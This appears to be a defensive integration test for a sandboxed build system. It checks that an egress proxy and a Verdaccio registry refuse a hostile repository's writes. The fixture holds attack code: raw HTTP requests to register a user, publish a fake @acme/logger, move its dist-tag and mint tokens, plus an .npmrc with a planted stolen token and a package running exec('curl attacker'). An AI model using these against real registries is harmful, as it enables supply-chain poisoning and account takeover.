/**
 * A hostile repository on registry_only tries, from its own test script, to register a user and publish a new
 * @acme/logger (the way an attacker would: raw HTTP through the proxy, and `npm publish`), against the registry it is
 * configured with and against the stack's Verdaccio. The run ends normally, the registry keeps its versions, nobody
 * is registered, and every refusal is in the run's evidence.
 */
import fs from 'node:fs';
import { fileURLToPath } from 'node:url';
import { createControlActivities } from '../activities/control';
import { loadConfig } from '../src/config';
import { LOGGER_PACKAGE } from '../src/dev/internal-packages';
import { startEgressProxy } from '../src/sandbox/egress';
import { controlDeps } from '../src/workers/control-deps';
import { realExecutionActivities, startHarness, type RegattaHarness } from './support/harness';
import { fixtureRepo, readStackInfo } from './support/stack';

let harness: RegattaHarness;

beforeAll(async () => {
  harness = await startHarness({
    controlActivities: createControlActivities(controlDeps(loadConfig())),
    executionActivities: realExecutionActivities(),
  });
});
afterAll(async () => harness?.shutdown());

async function publishedVersions(registry: string): Promise<string[]> {
  const body = (await (await fetch(`${registry}${encodeURIComponent(LOGGER_PACKAGE)}`)).json()) as {
    versions: Record<string, unknown>;
  };
  return Object.keys(body.versions).sort();
}

/** What the attacker runs as `npm test`: every write it can think of, errors ignored, then a passing exit. */
function attackScript(internalRegistry: string): string {
  return `const http = require('http');
const proxy = new URL(process.env.HTTP_PROXY);
const tarball = Buffer.from('evil').toString('base64');
const manifest = { name: '${LOGGER_PACKAGE}', versions: { '9.9.9': { name: '${LOGGER_PACKAGE}', version: '9.9.9', dist: { tarball: 'x' } } },
  'dist-tags': { latest: '9.9.9' }, _attachments: { 'logger-9.9.9.tgz': { data: tarball, length: 4 } } };
function send(method, url, body) {
  return new Promise((done) => {
    const req = http.request({ host: proxy.hostname, port: proxy.port, method, path: url,
      headers: { 'content-type': 'application/json', authorization: 'Bearer stolen' } }, (res) => {
      res.resume();
      res.on('end', () => { console.log('attack', method, url, res.statusCode); done(); });
    });
    req.on('error', (e) => { console.log('attack', method, url, e.code); done(); });
    req.end(body ? JSON.stringify(body) : undefined);
  });
}
(async () => {
  for (const registry of [process.env.npm_config_registry, '${internalRegistry}']) {
    await send('PUT', registry + '-/user/org.couchdb.user:mallory', { name: 'mallory', password: 'hunter2hunter2' });
    await send('PUT', registry + '${encodeURIComponent(LOGGER_PACKAGE)}', manifest);
    await send('PUT', registry + '-/package/${encodeURIComponent(LOGGER_PACKAGE)}/dist-tags/latest', '9.9.9');
    await send('POST', registry + '-/npm/v1/tokens', { password: 'x' });
  }
})();
`;
}

it('a repository that tries to register and publish through the proxy ends normally, and the registry is unchanged', async () => {
  const stack = readStackInfo();
  const internal = stack.packageRegistry.url;
  const before = await publishedVersions(internal);
  const mirrorHost = new URL(stack.registryMirror.url).host;
  const target = await fixtureRepo(`fixtures/hostile-${harness.unique}`, {
    'attack.js': attackScript(internal),
    'evil/package.json': JSON.stringify({ name: LOGGER_PACKAGE, version: '9.9.9', main: 'index.js' }),
    'evil/index.js': "module.exports = { log() { require('child_process').exec('curl attacker') } };\n",
    'evil/.npmrc': `//${mirrorHost}/:_authToken=stolen\n`,
    'package.json': `${JSON.stringify(
      {
        name: '@acme/hostile',
        version: '1.0.0',
        private: true,
        scripts: {
          test: 'node attack.js',
          posttest: 'cd evil && npm publish --registry "$npm_config_registry" || echo publish refused',
        },
        dependencies: { [LOGGER_PACKAGE]: '^1.0.0' },
      },
      null,
      2,
    )}\n`,
  });
  const spec = {
    id: `hostile-${harness.unique}`,
    title: 'Add a changelog line',
    // Dependency upgrades get registry_only from the default policy.
    taskType: 'dependency_upgrade' as const,
    targets: [target],
    steps: [{ recipe: 'command' as const, name: 'changelog', run: 'echo "- nothing hostile here" >> CHANGELOG.md' }],
    verify: { commands: ['npm test'] },
  };
  await harness.client.startCampaign(spec);
  const result = await harness.client.campaignResult(spec.id);
  expect(result.runs[0]).toMatchObject({ state: 'published' });

  expect(await publishedVersions(internal)).toEqual(before);
  expect(await publishedVersions(stack.registryMirror.url)).not.toContain('9.9.9');
  expect(fs.readFileSync(`${stack.home}/verdaccio/htpasswd`, 'utf8')).not.toContain('mallory');

  const run = await harness.client.runStatus(result.runs[0].runId);
  const events = JSON.parse(
    fs.readFileSync(fileURLToPath(run.manifest!.artifacts.find((a) => a.name === 'events.json')!.uri), 'utf8'),
  ) as Array<{ kind: string; name: string; allowed: boolean; detail?: string }>;
  const refused = events.filter((e) => e.kind === 'egress' && !e.allowed);
  const mirrorWrites = refused.filter((e) => e.name.includes(mirrorHost));
  expect(mirrorWrites.map((e) => e.name)).toEqual(
    expect.arrayContaining([
      `PUT ${mirrorHost}/-/user/org.couchdb.user:mallory`,
      `PUT ${mirrorHost}/${encodeURIComponent(LOGGER_PACKAGE)}`,
      `PUT ${mirrorHost}/-/package/${encodeURIComponent(LOGGER_PACKAGE)}/dist-tags/latest`,
      `POST ${mirrorHost}/-/npm/v1/tokens`,
    ]),
  );
  expect(mirrorWrites.every((e) => /read-only/.test(e.detail ?? ''))).toBe(true);
  // npm publish went the same way as the raw requests.
  const publishes = mirrorWrites.filter(
    (e) =>
      e.name.toLowerCase() === `put ${mirrorHost}/@acme%2flogger` ||
      e.name === `PUT ${mirrorHost}/${encodeURIComponent(LOGGER_PACKAGE)}`,
  );
  expect(publishes.length).toBeGreaterThanOrEqual(2);
  expect(
    refused.some(
      (e) => e.name.startsWith(`PUT ${new URL(internal).host}/-/user/`) && /not allowed/.test(e.detail ?? ''),
    ),
  ).toBe(true);
});

it('the egress proxy lets only reads through to a plain-HTTP registry it allows', async () => {
  const internal = new URL(readStackInfo().packageRegistry.url);
  const proxy = await startEgressProxy('127.0.0.1', new Set([internal.host]));
  try {
    const through = (method: string, path: string) =>
      new Promise<number>((resolve, reject) => {
        const req = require('node:http').request(
          { host: '127.0.0.1', port: new URL(proxy.url).port, method, path: `${internal.origin}${path}` },
          (res: import('node:http').IncomingMessage) => {
            res.resume();
            resolve(res.statusCode ?? 0);
          },
        );
        req.on('error', reject);
        req.end(['PUT', 'POST', 'PATCH'].includes(method) ? '{}' : undefined);
      });
    expect(await through('GET', `/${encodeURIComponent(LOGGER_PACKAGE)}`)).toBe(200);
    expect(await through('HEAD', `/${encodeURIComponent(LOGGER_PACKAGE)}`)).toBe(200);
    for (const [method, path] of [
      ['PUT', `/${encodeURIComponent(LOGGER_PACKAGE)}`],
      ['POST', '/-/v1/login'],
      ['GET', '/-/user/org.couchdb.user:regatta'],
      ['GET', '/%2d/npm/v1/tokens'],
      ['DELETE', `/${encodeURIComponent(LOGGER_PACKAGE)}/-rev/3-abc`],
      ['PATCH', `/${encodeURIComponent(LOGGER_PACKAGE)}`],
    ] as const) {
      expect([method, path, await through(method, path)]).toEqual([method, path, 403]);
    }
    expect(proxy.refusalsFrom('127.0.0.1', 0).map((r) => r.method)).toEqual([
      'PUT',
      'POST',
      'GET',
      'GET',
      'DELETE',
      'PATCH',
    ]);
  } finally {
    await proxy.close();
  }
});

it("the stack's Verdaccio accepts no new user, even asked directly", async () => {
  const answer = await fetch(`${readStackInfo().packageRegistry.url}-/user/org.couchdb.user:mallory`, {
    method: 'PUT',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ name: 'mallory', password: 'hunter2hunter2' }),
  });
  expect(answer.ok).toBe(false);
  expect(((await answer.json()) as { error: string }).error).toMatch(/registration disabled/);
});
